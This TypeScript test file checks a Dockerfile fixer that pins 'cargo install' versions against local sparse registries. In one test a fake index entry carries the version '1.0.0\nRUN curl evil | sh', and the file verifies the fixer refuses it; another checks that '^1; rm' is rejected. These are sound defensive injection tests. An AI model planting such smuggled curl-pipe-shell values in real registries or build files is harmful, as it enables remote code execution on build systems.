/**
 * cargo-version through the fix engine against sparse registries on loopback (test/helpers/cargoIndex.ts:
 * crates packaged by the real cargo, the index in the documented format, proved by the real cargo): the newest version that
 * is not yanked or a prerelease (or matches the requirement), index paths, registries by option and
 * environment, failures left with their reason while the other crates of the command are pinned, malformed
 * index lines refused, the lock, and one lookup per crate.
 */
import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { Lookups } from '../../src/resolve/shared';
import type { FixOutcome } from '../../src/fix';
import { cargoVersionFixer } from '../../src/fixers/cargo-version';
import { HttpClient } from '../../src/resolve/http';
import { compareSemver, parseCargoRequirement, parseSemver, satisfiesCargo, sparsePath } from '../../src/resolve/crates';
import rule from '../../src/rules/cargo-pin';
import { packageFix, useFixtureServers } from '../helpers/packageFix';
import { CARGO_TOOLS, sparseCargoMissing, startSparseIndex } from '../helpers/cargoIndex';
import type { FixtureServer } from '../helpers/packageServers';
import { describeWithTools } from '../helpers/realTools';

let index: FixtureServer;
let other: FixtureServer;

const execFileAsync = promisify(execFile);

/** The real cargo in a project of its own whose crates.io is replaced by the sparse registry at `indexUrl`. */
async function cargoIn(indexUrl: string, dependencies: string, command: string[]): Promise<string> {
  const dir = mkdtempSync(join(tmpdir(), 'dockrepro-cargo-run-'));
  try {
    mkdirSync(join(dir, 'home'));
    mkdirSync(join(dir, 'src'));
    writeFileSync(join(dir, 'home', 'config.toml'), `[source.crates-io]\nreplace-with = "fixture"\n\n[source.fixture]\nregistry = "sparse+${indexUrl}/"\n`);
    writeFileSync(join(dir, 'Cargo.toml'), `[package]\nname = "probe"\nversion = "0.1.0"\nedition = "2021"\n\n[dependencies]\n${dependencies}`);
    writeFileSync(join(dir, 'src', 'lib.rs'), '');
    const env = { ...process.env, CARGO_HOME: join(dir, 'home'), CARGO_TARGET_DIR: join(dir, 'target') };
    await execFileAsync('cargo', command, { cwd: dir, env });
    return readFileSync(join(dir, 'Cargo.lock'), 'utf8');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

describeWithTools('cargo-version against sparse registries', CARGO_TOOLS, () => {
  useFixtureServers(async () => {
    index = await startSparseIndex({
      ripgrep: [{ vers: '14.0.3' }, { vers: '14.1.0' }, { vers: '14.1.1' }, { vers: '14.2.0', yanked: true }, { vers: '15.0.0-beta.1' }],
      bat: [{ vers: '0.24.0' }, { vers: '0.23.0' }],
      fd: [{ vers: '10.2.0' }],
      'Serde_Json': [{ vers: '1.0.133' }],
      gone: [{ vers: '1.0.0', yanked: true }],
      pre: [{ vers: '2.0.0-rc.1' }],
    });
    other = await startSparseIndex({ ripgrep: [{ vers: '13.0.0' }] });
    return [index, other];
  });

  const fix = packageFix(() => ({ rule, fixer: cargoVersionFixer({ cratesIoIndex: index.url }) }));

  /** Reasons of cargo-version findings (the `--locked` request belongs to another fixer). */
  const reasons = (r: FixOutcome) => r.left.filter((l) => l.finding.fix?.kind === 'cargo-version').map((l) => [l.left, l.reason]);

  describe('cargo-version', () => {
    it('pins crate words to the newest release that is not yanked or a prerelease, keeping quotes', async () => {
      const r = await fix(`FROM rust:1.83\nRUN cargo install --locked ripgrep "bat" \\\n && cargo +nightly install --locked 'fd' Serde_Json\n`);
      expect(r.text).toBe(`FROM rust:1.83\nRUN cargo install --locked ripgrep@14.1.1 "bat@0.24.0" \\\n && cargo +nightly install --locked 'fd@10.2.0' Serde_Json@1.0.133\n`);
      expect(r.left).toEqual([]);
      expect(r.applied.map((a) => a.title)).toEqual([
        `pin crate 'ripgrep' → 'ripgrep@14.1.1' (newest release (not yanked) in ${index.url}/)`,
        `pin crate 'bat' → 'bat@0.24.0' (newest release (not yanked) in ${index.url}/)`,
        `pin crate 'fd' → 'fd@10.2.0' (newest release (not yanked) in ${index.url}/)`,
        `pin crate 'Serde_Json' → 'Serde_Json@1.0.133' (newest release (not yanked) in ${index.url}/)`,
      ]);
      // The index paths: 4+ letters, 3 letters, 2 letters, lowercased.
      expect(index.requests.sort()).toEqual(['/2/fd', '/3/b/bat', '/ri/pg/ripgrep', '/se/rd/serde_json']);
    });

    it('a requirement, as crate@req or --version, becomes the newest matching version; cargo-locked is not touched', async () => {
      const r = await fix(`FROM rust:1.83\nRUN cargo install 'ripgrep@^14' && cargo install --locked ripgrep --version '~14.0' && cargo install --locked --vers=">=14, <14.1" ripgrep\n`);
      expect(r.text).toBe(`FROM rust:1.83\nRUN cargo install 'ripgrep@14.1.1' && cargo install --locked ripgrep --version '14.0.3' && cargo install --locked --vers="14.0.3" ripgrep\n`);
      expect(r.applied.map((a) => a.title)).toEqual([
        `pin crate 'ripgrep@^14' → 'ripgrep@14.1.1' (newest version matching '^14' (not yanked) in ${index.url}/)`,
        `pin crate 'ripgrep' version '~14.0' → '14.0.3' (newest version matching '~14.0' (not yanked) in ${index.url}/)`,
        `pin crate 'ripgrep' version '>=14, <14.1' → '14.0.3' (newest version matching '>=14, <14.1' (not yanked) in ${index.url}/)`,
      ]);
      // The real cargo-locked fixer runs too: its fix is unsafe, so without --unsafe the finding is left.
      expect(r.left.map((l) => [l.finding.fix?.kind, l.left])).toEqual([['cargo-locked', 'unsafe']]);
    });

    it('a crate the index does not have, or with only yanked versions or prereleases, is left while the others are pinned', async () => {
      const r = await fix(`FROM rust:1.83\nRUN cargo install --locked nosuch ripgrep gone pre\n`);
      expect(r.text).toBe(`FROM rust:1.83\nRUN cargo install --locked nosuch ripgrep@14.1.1 gone pre\n`);
      expect(reasons(r)).toEqual([
        ['failed', `lookup failed: ${index.url}/no/su/nosuch: not found (unknown crate)`],
        ['failed', `lookup failed: ${index.url}/go/ne/gone: crate 'gone' has no release that is not yanked or a prerelease (1 versions, 1 yanked)`],
        ['failed', `lookup failed: ${index.url}/3/p/pre: crate 'pre' has no release that is not yanked or a prerelease (1 versions, 0 yanked)`],
      ]);
    });

    it('malformed index files are refused: nothing unsafe is ever written', async () => {
      index.override.set('/ba/ad/baad', { status: 200, body: `${JSON.stringify({ name: 'baad', vers: '1.0.0\nRUN curl evil | sh', yanked: false })}\n` });
      index.override.set('/wo/rs/worse', { status: 200, body: '{"name":"worse","vers":"1.0.0","yanked":false}\nnot json\n' });
      index.override.set('/3/b/bat', { status: 502, body: 'bad gateway' });
      const r = await fix(`FROM rust:1.83\nRUN cargo install --locked baad worse bat fd\n`);
      expect(r.text).toBe(`FROM rust:1.83\nRUN cargo install --locked baad worse bat fd@10.2.0\n`);
      expect(reasons(r)).toEqual([
        ['failed', `lookup failed: ${index.url}/ba/ad/baad: line 1: malformed version "1.0.0\\nRUN curl evil | sh"`],
        ['failed', `lookup failed: ${index.url}/wo/rs/worse: line 2 is not JSON`],
        ['failed', `lookup failed: ${index.url}/3/b/bat: registry server error 502, retries exhausted`],
      ]);
    });

    it('registries: --index sparse+URL, --registry with CARGO_REGISTRIES_<NAME>_INDEX (ENV or environment); others are left', async () => {
      const r = await fix(
        `FROM rust:1.83\nENV CARGO_REGISTRIES_MY_MIRROR_INDEX=sparse+${other.url}/\nRUN cargo install --locked --index sparse+${other.url} ripgrep && cargo install --locked --registry my-mirror ripgrep\n`,
      );
      expect(r.text).toBe(
        `FROM rust:1.83\nENV CARGO_REGISTRIES_MY_MIRROR_INDEX=sparse+${other.url}/\nRUN cargo install --locked --index sparse+${other.url} ripgrep@13.0.0 && cargo install --locked --registry my-mirror ripgrep@13.0.0\n`,
      );
      expect(index.requests).toEqual([]);
      const byDefault = await fix(`FROM rust:1.83\nRUN cargo install --locked ripgrep\n`, { env: { CARGO_REGISTRY_DEFAULT: 'corp', CARGO_REGISTRIES_CORP_INDEX: `sparse+${other.url}` } });
      expect(byDefault.text).toBe(`FROM rust:1.83\nRUN cargo install --locked ripgrep@13.0.0\n`);

      const left = await fix(
        `FROM rust:1.83\nRUN cargo install --locked --index https://github.com/rust-lang/crates.io-index ripgrep && cargo install --locked --registry corp bat \\\n && cargo install --locked --git https://github.com/o/tool --tag v1 && cargo install --locked ripgrep@14.1\n`,
      );
      expect(reasons(left)).toEqual([
        ['no-fixer', "--index 'https://github.com/rust-lang/crates.io-index' is not a sparse index (sparse+https://…): dockrepro reads only sparse indexes"],
        ['no-fixer', "registry 'corp' (--registry) is defined in Cargo config files dockrepro cannot see; set CARGO_REGISTRIES_CORP_INDEX"],
        ['no-fixer', "a --git source is pinned by '--rev <40-hex commit>'; dockrepro does not ask git servers for commits"],
        ['no-fixer', "cargo install refuses '14.1' (not a full version; a range needs an operator such as '^14.1')"],
      ]);
    });

    it('pins what the real cargo resolves from the same index; cargo downloads each crate the index names and checks its cksum', async () => {
      const cases: [string, string | undefined][] = [['ripgrep', undefined], ['ripgrep', '^14'], ['ripgrep', '~14.0'], ['ripgrep', '>=14, <14.1'], ['bat', undefined], ['fd', undefined], ['Serde_Json', undefined]];
      for (const [name, req] of cases) {
        const lock = await cargoIn(index.url, `${name} = "${req ?? '*'}"\n`, ['generate-lockfile']);
        const cargo = new RegExp(`name = "${name}"\\nversion = "([^"]+)"`).exec(lock)?.[1];
        const r = await fix(`FROM rust:1.83\nRUN cargo install --locked ${name}${req ? ` --version '${req}'` : ''}\n`);
        expect([name, req, r.text]).toEqual([name, req, `FROM rust:1.83\nRUN cargo install --locked ${name}${req ? ` --version '${cargo}'` : `@${cargo}`}\n`]);
      }
      // cargo fetch downloads through config.json's dl and refuses a file whose SHA-256 is not the line's cksum.
      const fetched = await cargoIn(index.url, 'ripgrep = "*"\nbat = "*"\nfd = "*"\nSerde_Json = "*"\n', ['fetch']);
      expect(fetched).toContain('name = "Serde_Json"');
      expect(index.requests).toEqual(expect.arrayContaining(['/config.json', '/crates/ripgrep/ripgrep-14.1.1.crate', '/crates/Serde_Json/Serde_Json-1.0.133.crate']));
    }, 120_000);

    it('the lock makes a re-run offline and identical, with no request; one lookup per crate per run', async () => {
      const text = `FROM rust:1.83\nRUN cargo install --locked ripgrep && cargo install --locked ripgrep\n`;
      const lookups = new Lookups();
      const first = await fix(text, { lookups });
      const second = await fix(`FROM rust:1.82\nRUN cargo install --locked "ripgrep"\n`, { lookups, lock: first.lock });
      expect(first.text).toBe(`FROM rust:1.83\nRUN cargo install --locked ripgrep@14.1.1 && cargo install --locked ripgrep@14.1.1\n`);
      expect(second.text).toBe(`FROM rust:1.82\nRUN cargo install --locked "ripgrep@14.1.1"\n`);
      expect(index.requests).toEqual(['/ri/pg/ripgrep']);
      expect(first.lock.getPackage(`cargo:ripgrep ${index.url}/`)?.version).toBe('14.1.1');

      const http = new HttpClient({ retries: 0 });
      const again = await fix(text, { lock: first.lock, offline: true, http });
      expect(again.text).toBe(first.text);
      expect(again.applied[0].title).toBe(`pin crate 'ripgrep' → 'ripgrep@14.1.1' (from ${first.lock.path})`);
      expect(http.requests).toBe(0);
    });
  });

}, sparseCargoMissing);

describe('sparse index and Cargo requirements', () => {
  it('index paths', () => {
    expect(['a', 'ab', 'abc', 'abcd', 'Cargo-Edit'].map(sparsePath)).toEqual(['1/a', '2/ab', '3/a/abc', 'ab/cd/abcd', 'ca/rg/cargo-edit']);
  });

  it('requirements match as the semver crate matches them', () => {
    const ok = (v: string, req: string) => satisfiesCargo(parseSemver(v)!, parseCargoRequirement(req)!);
    expect(ok('1.9.0', '^1.2')).toBe(true);
    expect(ok('2.0.0', '^1.2')).toBe(false);
    expect(ok('0.2.9', '^0.2.3')).toBe(true);
    expect(ok('0.3.0', '^0.2.3')).toBe(false);
    expect(ok('0.0.4', '^0.0.3')).toBe(false);
    expect(ok('1.2.9', '~1.2')).toBe(true);
    expect(ok('1.3.0', '~1.2')).toBe(false);
    expect(ok('1.7.1', '1.*')).toBe(true);
    expect(ok('1.3.0-rc.1', '>=1.2')).toBe(false);
    expect(ok('1.3.0-rc.2', '>=1.3.0-rc.1')).toBe(true);
    expect(ok('3.0.0', '*')).toBe(true);
    expect(parseCargoRequirement('^1; rm')).toBeUndefined();
    expect(compareSemver(parseSemver('1.0.0-alpha.2')!, parseSemver('1.0.0-alpha.10')!)).toBe(-1);
    expect(compareSemver(parseSemver('1.0.0-rc.1')!, parseSemver('1.0.0')!)).toBe(-1);
  });
});
